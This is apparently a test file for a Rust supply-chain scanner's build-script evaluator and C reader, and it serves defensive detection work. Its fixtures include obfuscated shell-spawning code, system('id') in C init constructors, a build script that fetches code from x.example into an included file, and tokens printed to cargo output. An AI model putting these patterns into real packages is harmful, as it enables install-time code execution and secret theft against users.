// Code that exists only at build time: the build-script evaluator, the C reader, and how the scan uses them.
import fc from 'fast-check';
import { createRequire } from 'node:module';
import type Parser from 'tree-sitter';
import { describe, expect, it } from 'vitest';
import { analyzeTrees } from '../src/index.js';
import { treeFromFiles } from '../src/source/index.js';
import { evaluateBuildScript, type BuildEvaluation } from '../src/parse/buildeval.js';
import { render } from '../src/parse/values.js';
import { cGrammarVersion, parseC } from '../src/parse/c.js';
import { RUST_LANGUAGE } from '../src/parse/parser.js';

const require = createRequire(import.meta.url);
const P = require('tree-sitter') as typeof Parser;
const parser = new P();
parser.setLanguage(RUST_LANGUAGE);

function evaluate(src: string, shipped: Record<string, string> = {}): BuildEvaluation {
  return evaluateBuildScript([{ path: 'build.rs', tree: parser.parse(src) }], (p) => shipped[p]);
}
const text = (e: BuildEvaluation, i = 0) => render(e.writes[i].content, 1 << 20).text;
const manifest = (v: string) => `[package]\nname = "gen"\nversion = "${v}"\nedition = "2021"\n`;
const scan = (oldFiles: Record<string, string>, newFiles: Record<string, string>, parse?: { fileBudgetMs: number; crateBudgetMs: number }) =>
  analyzeTrees(treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), ...oldFiles }, 'old'), treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), ...newFiles }, 'new'), parse ? { parse } : {}).report;

describe('build-script evaluator', () => {
  it('rebuilds text written with File::create and writeln!, format! pieces and a loop over a const table', () => {
    const e = evaluate(`
      use std::io::Write;
      const T: &[(&str, u32)] = &[("a", 1), ("b", 2)];
      const HEAD: &str = "std::pro";
      fn main() {
          let out = std::env::var("OUT_DIR").unwrap();
          let mut f = std::io::BufWriter::new(std::fs::File::create(std::path::Path::new(&out).join("gen.rs")).unwrap());
          for (k, v) in T { writeln!(f, "pub const {}: u32 = {};", k.to_uppercase(), v).unwrap(); }
          let p = format!("{}cess::Command", HEAD);
          write!(f, "pub fn go() {{ {p}::new({:?}); }}", "sh").unwrap();
      }`);
    expect(render(e.writes[0].path, 100).text).toBe('$OUT_DIR/gen.rs');
    expect(text(e)).toBe('pub const A: u32 = 1;\npub const B: u32 = 2;\npub fn go() { std::process::Command::new("sh"); }');
    expect(e.truncated).toBe(false);
  });

  it('remembers the line each generated line comes from, in the build script or in a shipped file', () => {
    const e = evaluate(`fn main() {\n    let mut s = String::from("// head\\n");\n    s.push_str(include_str!("tpl/body.in"));\n    std::fs::write(format!("{}/x.rs", env!("OUT_DIR")), s).unwrap();\n}`, { 'tpl/body.in': 'fn a() {}\nfn b() {}\n' });
    const r = render(e.writes[0].content, 1000);
    expect(r.text).toBe('// head\nfn a() {}\nfn b() {}\n');
    expect(r.origins.slice(0, 3)).toEqual([{ file: 'build.rs', line: 2 }, { file: 'tpl/body.in', line: 1 }, { file: 'tpl/body.in', line: 2 }]);
  });

  it('follows helper functions, closures, reversed and replaced literals', () => {
    const e = evaluate(`
      fn body(name: &str) -> String { format!("pub fn {name}() {{}}") }
      fn main() {
          let hidden: String = "llehs".chars().rev().collect::<String>();
          let parts = vec!["a", "b"];
          let joined = parts.iter().map(|p| body(p)).collect::<Vec<_>>().join("\\n");
          std::fs::write(std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap()).join("h.rs"), format!("{joined}\\n// {}\\n// {}", hidden, "XyX".replace("y", "-"))).unwrap();
      }`);
    expect(text(e)).toBe('pub fn a() {}\npub fn b() {}\n// shell\n// X-X');
  });

  it('decodes byte lists and follows writes called as paths', () => {
    const e = evaluate(`use std::io::Write;\nfn main() { let mut f = std::fs::File::create(concat!(env!("OUT_DIR"), "/b.rs")).unwrap();\n  let code = String::from_utf8(vec![102, 110, 32, 120, 40, 41, 123, 125]).unwrap();\n  std::io::Write::write_all(&mut f, code.as_bytes()).unwrap(); }`);
    expect(text(e)).toBe('fn x(){}');
  });

  it('keeps what it cannot know as placeholders that say where they come from', () => {
    const e = evaluate(`fn main() {\n  let n: usize = std::env::var("SIZE").ok().and_then(|s| s.parse().ok()).unwrap_or(4);\n  let body = reqwest::blocking::get("https://x.example/c").unwrap().text().unwrap();\n  std::fs::write(std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("t.rs"), format!("const N: usize = {n};\\n{body}")).unwrap();\n}`);
    const r = render(e.writes[0].content, 1000);
    expect(r.unknown).toBe(2);
    const sources = e.writes[0].content.flatMap((p) => p.dyn?.taint ?? []);
    expect(sources).toContain('env:SIZE');
    expect(sources).toContain('net');
  });

  it('tracks secrets into printed cargo directives, but not variable names or tests on them', () => {
    const e = evaluate(`fn main() {
      let t = std::env::var("GITHUB_TOKEN").unwrap_or_default();
      println!("cargo:warning={}", t);
      if t.is_empty() { println!("cargo:warning=no token"); }
      for (k, v) in std::env::vars() { println!("cargo:rustc-cfg=has_{}", k); let _ = v; }
    }`);
    const taints = e.prints.map((p) => p.value.flatMap((x) => x.dyn?.taint ?? []));
    expect(taints[0]).toEqual(['env:GITHUB_TOKEN']);
    expect(taints[1]).toEqual([]);
    expect(taints[2]).toEqual(['env-name']);
  });

  it('stops at its step budget on hostile input instead of hanging', () => {
    const body = Array.from({ length: 40 }, (_, i) => `fn f${i}() { for _ in 0..10 { f${i + 1}(); f${i + 1}(); } }`).join('\n');
    const t0 = performance.now();
    const e = evaluate(`${body}\nfn f40() {}\nfn main() { loop { f0(); } }`);
    expect(performance.now() - t0).toBeLessThan(20_000);
    expect(e.writes).toEqual([]);
  });

  it('stops at deep nesting instead of overflowing the stack', () => {
    const deep = `fn main() { let s = ${'('.repeat(50_000)}"x"${')'.repeat(50_000)}; std::fs::write(format!("{}/a.rs", env!("OUT_DIR")), s).unwrap(); }`;
    const e = evaluate(deep);
    expect(e.truncated).toBe(true);
    const r = scan({ 'build.rs': 'fn main() {}\n' }, { 'build.rs': deep, 'src/lib.rs': 'include!(concat!(env!("OUT_DIR"), "/a.rs"));\n' });
    expect(['pass', 'review', 'block']).toContain(r.verdict);
  });

  it('never throws on arbitrary build scripts', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (s) => {
        const e = evaluate(`fn main() { ${s} }`);
        expect(Array.isArray(e.writes)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('C reader', () => {
  it('uses the pinned tree-sitter-c', () => {
    expect(cGrammarVersion()).toBe('0.23.6');
  });

  it('finds constructors, .init_array entries, #pragma init and platform calls through macros and pointers', () => {
    const f = parseC(Buffer.from(`
      #include <stdlib.h>
      #define RUN(c) system(c)
      #pragma init(early)
      static void early(void) {}
      static void go(void) { RUN("id"); int (*p)(const char *) = popen; (void)p; }
      __attribute__((section(".init_array"))) static void (*entry)(void) = go;
      static void late(void) __attribute__((destructor));
      static void late(void) { atexit(go); }
    `), 'x.c', 5000);
    expect(f.ctors.map((c) => `${c.name} ${c.how}`).sort()).toEqual(['early #pragma init', 'go an entry in the .init_array section', 'late __attribute__((destructor))']);
    expect(f.refs.map((r) => `${r.kind} ${r.name} ${r.fn}`)).toEqual(expect.arrayContaining(['call system go', 'ref popen go']));
    expect(f.calls.late).toContain('go');
  });

  it('reads assembly sources as text', () => {
    const f = parseC(Buffer.from('.section .init_array,"aw"\n.quad run\nrun:\n  mov $59, %eax\n  syscall\n  call system@PLT\n'), 'a.S', 5000);
    expect(f.ctors).toHaveLength(1);
    expect(f.asm.map((a) => a.line)).toEqual([5]);
    expect(f.refs.map((r) => r.name)).toEqual(['system']);
  });

  it('does not parse a source that names nothing of interest', () => {
    expect(parseC(Buffer.from('int add(int a, int b) { return a + b; } /* system() */'), 'a.c', 5000).skipped).toBe(true);
  });

  it('reports a source over the time budget as not analysed', () => {
    const big = `#include <stdlib.h>\n${Array.from({ length: 40000 }, (_, i) => `int f${i}(int x) { if (x) return system("x"); return f${i}(x - 1) * 3 + ${i}; }`).join('\n')}`;
    const f = parseC(Buffer.from(big), 'big.c', 1);
    expect(f.partial).toBe(true);
    expect(f.partialReason).toMatch(/budget/);
  });

  it('never throws on arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 600 }), fc.constantFrom('x.c', 'x.cpp', 'x.S'), (b, p) => {
        const f = parseC(Buffer.concat([Buffer.from('__attribute__((constructor)) '), Buffer.from(b)]), p, 2000);
        expect(f.lines).toBeGreaterThan(0);
      }),
      { numRuns: 300 },
    );
  });
});

describe('build-time code in a scan', () => {
  const build = (files: string) => `fn main() { cc::Build::new()${files}.compile("x"); }\n`;

  it('native sources left unread by the scan budget are reported, not skipped', () => {
    const r = scan({ 'build.rs': build('.file("c/a.c")'), 'c/a.c': 'int a(void) { return 0; }\n' }, { 'build.rs': build('.file("c/a.c")'), 'c/a.c': '#include <stdlib.h>\nint a(void) { return system("x"); }\n' }, { fileBudgetMs: 10_000, crateBudgetMs: 0 });
    const f = r.findings.find((x) => x.ruleId === 'native-code-unanalysed');
    expect(f?.severity).toBe('high');
    expect(f?.message).toMatch(/budget/);
  });

  it('a C file compiled through a glob is read, and its finding has the C line as snippet', () => {
    const r = scan({ 'build.rs': build('.files(glob::glob("csrc/*.c").unwrap().map(|p| p.unwrap()))') }, { 'build.rs': build('.files(glob::glob("csrc/*.c").unwrap().map(|p| p.unwrap()))'), 'csrc/n.c': '#include <netdb.h>\nint r(const char *h, struct addrinfo **o) { return getaddrinfo(h, 0, 0, o); }\n' });
    const f = r.findings.find((x) => x.ruleId === 'native-code-network');
    expect(f?.file).toBe('csrc/n.c');
    expect(f?.snippet).toContain('getaddrinfo');
  });

  it('a generated file that is rewritten with a payload in a later release is caught on the build-script line', () => {
    const lib = 'include!(concat!(env!("OUT_DIR"), "/g.rs"));\npub fn run() { hook(); }\n';
    const gen = (body: string) => `fn main() { let o = std::env::var("OUT_DIR").unwrap();\n    std::fs::write(format!("{o}/g.rs"), ${body}).unwrap(); }\n`;
    const r = scan(
      { 'build.rs': gen('"fn hook() {}"'), 'src/lib.rs': lib },
      { 'build.rs': gen('concat!("fn hook() { let _ = std::process::Com", "mand::new(\\"sh\\").arg(\\"-c\\").arg(\\"id\\").spawn(); }")'), 'src/lib.rs': lib },
    );
    const f = r.findings.find((x) => x.ruleId === 'shell-exec');
    expect(f).toMatchObject({ file: 'build.rs', line: 2 });
    expect(f?.message).toMatch(/OUT_DIR\/g\.rs/);
    expect(r.findings.every((x) => !x.file.startsWith('/OUT_DIR'))).toBe(true);
    expect(r.verdict).toBe('block');
  });

  it('evaluates a build script once for both releases when it and the files it reads are the same, again when a file it reads changed', () => {
    const lib = 'include!(concat!(env!("OUT_DIR"), "/g.rs"));\npub fn run() { hook(); }\n';
    const bs = 'fn main() { let o = std::env::var("OUT_DIR").unwrap();\n    std::fs::write(format!("{o}/g.rs"), include_str!("tpl.txt")).unwrap(); }\n';
    const delta = (oldTpl: string, newTpl: string) => analyzeTrees(
      treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'build.rs': bs, 'src/lib.rs': lib, 'tpl.txt': oldTpl }, 'old'),
      treeFromFiles({ 'Cargo.toml': manifest('0.1.1'), 'build.rs': bs, 'src/lib.rs': `${lib}// changed\n`, 'tpl.txt': newTpl }, 'new'),
    );
    const same = delta('fn hook() {}', 'fn hook() {}');
    expect(same.delta.new.buildScript?.evaluation).toBe(same.delta.old.buildScript?.evaluation);
    expect(same.report.findings.some((f) => f.ruleId === 'shell-exec')).toBe(false);
    const changed = delta('fn hook() {}', 'fn hook() { let _ = std::process::Command::new("sh").arg("-c").arg("id").spawn(); }');
    expect(changed.delta.new.buildScript?.evaluation).not.toBe(changed.delta.old.buildScript?.evaluation);
    expect(changed.delta.new.buildScript?.generated[0].text).toContain('Command::new("sh")');
    expect(changed.delta.old.buildScript?.generated[0].text).toBe('fn hook() {}');
    expect(changed.report.findings.some((f) => f.ruleId === 'shell-exec')).toBe(true);
  });

  it('a generated file written from a download is an opaque include, high', () => {
    const lib = 'include!(concat!(env!("OUT_DIR"), "/g.rs"));\n';
    const r = scan(
      { 'build.rs': 'fn main() { std::fs::write(format!("{}/g.rs", std::env::var("OUT_DIR").unwrap()), "").unwrap(); }\n', 'src/lib.rs': lib },
      { 'build.rs': 'fn main() { let b = ureq::get("https://x.example/g").call().unwrap().into_string().unwrap();\n std::fs::write(format!("{}/g.rs", std::env::var("OUT_DIR").unwrap()), b).unwrap(); }\n', 'src/lib.rs': lib },
    );
    const f = r.findings.find((x) => x.ruleId === 'include-opaque-file');
    expect(f?.severity).toBe('high');
    expect(f?.message).toMatch(/download/);
  });

  it('a version probe of $RUSTC written into OUT_DIR is not opaque text from another program; any other program is', () => {
    const lib = 'include!(concat!(env!("OUT_DIR"), "/version.rs"));\n';
    const probe = (program: string) =>
      `use std::process::Command;\nfn main() {\n    let rustc = std::env::var_os("RUSTC").unwrap_or_else(|| std::ffi::OsString::from("rustc"));\n    let out = Command::new(${program}).arg("--version").output().unwrap();\n    let v = String::from_utf8(out.stdout).unwrap();\n    std::fs::write(std::path::Path::new(&std::env::var_os("OUT_DIR").unwrap()).join("version.rs"), format!("{:#?}\\n", v)).unwrap();\n}\n`;
    const first = (files: Record<string, string>) => analyzeTrees(treeFromFiles({}, 'old'), treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), ...files }, 'new')).report;
    const compiler = first({ 'build.rs': probe('&rustc'), 'src/lib.rs': lib }).findings.find((x) => x.ruleId === 'include-opaque-file');
    expect(compiler?.severity).toBe('low');
    expect(compiler?.message).not.toMatch(/another program/);
    const other = first({ 'build.rs': probe('"git"'), 'src/lib.rs': lib }).findings.find((x) => x.ruleId === 'include-opaque-file');
    expect(other?.severity).toBe('high');
    expect(other?.message).toMatch(/another program's output/);
  });

  it('a program start in vendored C is medium in a first release (a vendored interpreter), high when it appears in a diff', () => {
    const build = 'fn main() { cc::Build::new().file("csrc/los.c").compile("los"); }\n';
    const c = '#include <stdlib.h>\nint os_execute(const char *cmd) { return system(cmd); }\n';
    const first = analyzeTrees(treeFromFiles({}, 'old'), treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), 'build.rs': build, 'csrc/los.c': c, 'src/lib.rs': '' }, 'new')).report;
    expect(first.findings.find((x) => x.ruleId === 'native-code-process')?.severity).toBe('medium');
    const diff = scan({ 'build.rs': build, 'csrc/los.c': 'int os_execute(const char *cmd) { return 0; }\n', 'src/lib.rs': '' }, { 'build.rs': build, 'csrc/los.c': c, 'src/lib.rs': '' });
    expect(diff.findings.find((x) => x.ruleId === 'native-code-process')?.severity).toBe('high');
  });

  it('feature names taken from env::vars() into rustc-env are names, not the environment; the values still are', () => {
    const names = 'fn main() {\n    println!("cargo:rustc-env=FEATURES={}", features());\n}\nfn features() -> String {\n    std::env::vars().filter(|(name, _)| name.starts_with("CARGO_FEATURE_")).map(|(name, _)| name.to_lowercase()).collect::<Vec<String>>().join(",")\n}\n';
    const values = names.replace('.map(|(name, _)| name.to_lowercase())', '.map(|(name, value)| format!("{name}={value}"))');
    const first = (b: string) => analyzeTrees(treeFromFiles({}, 'old'), treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), 'build.rs': b, 'src/lib.rs': '' }, 'new')).report;
    expect(first(names).findings.filter((x) => x.ruleId === 'build-output-secret')).toEqual([]);
    expect(first(values).findings.find((x) => x.ruleId === 'build-output-secret')?.severity).toBe('critical');
  });
});
